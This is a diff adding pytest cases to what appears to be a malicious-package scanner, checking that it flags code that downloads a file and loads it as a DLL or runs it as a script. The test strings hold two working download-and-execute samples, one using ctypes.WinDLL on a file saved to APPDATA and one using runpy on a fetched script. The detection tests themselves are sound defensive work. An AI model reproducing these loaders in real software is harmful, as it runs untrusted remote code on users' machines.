@@ -642,3 +642,38 @@ def test_a_decoded_name_looked_up_in_a_namespace_needs_the_ast(
 )
 def test_a_namespace_or_a_decoder_alone_needs_nothing(prefilter: Prefilter, text: str) -> None:
     assert prefilter.check(text) is Need.NOTHING
+
+
+# -- blind18: a download loaded as a library or run as a file (b18-dr-dll-ctypes-appdata) ------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "import ctypes, os, urllib.request\n"
+        "def native():\n    dest = os.path.join(os.getenv('APPDATA'), 'm.dll')\n"
+        "    data = urllib.request.urlopen('http://203.0.113.77/x.bin').read()\n"
+        "    with open(dest, 'wb') as fh:\n        fh.write(data)\n    ctypes.WinDLL(dest)\n"
+        "native()\n",
+        "import runpy, tempfile, requests\nt = tempfile.mktemp(suffix='.py')\n"
+        "open(t, 'wb').write(requests.get('https://x.example/s').content)\nrunpy.run_path(t)\n",
+    ],
+)
+def test_a_download_loaded_or_run_as_a_file_needs_the_ast(
+    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, text, "CPL-THR-002")
+
+
+def test_a_library_loaded_beside_the_network_without_a_download_stays_clean(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "mod.py").write_text(
+        "import ctypes, ctypes.util, requests\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
+        "def fetch(url):\n    return requests.get(url, timeout=5).json()\n"
+    )
+    assert not [
+        f
+        for f in scan_tree(tmp_path, mode=ScanMode.PACKAGE).findings
+        if f.severity is Severity.DANGER
+    ]
